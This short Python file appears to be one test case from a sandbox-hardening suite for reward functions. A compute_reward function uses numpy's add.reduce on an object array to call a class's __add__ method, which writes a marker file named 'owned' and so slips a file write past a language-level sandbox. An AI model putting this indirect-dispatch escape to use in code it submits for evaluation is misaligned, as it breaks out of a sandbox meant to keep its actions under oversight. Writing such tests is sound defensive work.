# attack: an object array calls methods of its elements
# group: numpy
# wall: language; alone: seccomp (no open)

class A:
    def __add__(self, other): open('@FOLDER@/owned', 'w')


def compute_reward(x):
    np.add.reduce(np.array([A(), A()], object))
    return x, {}
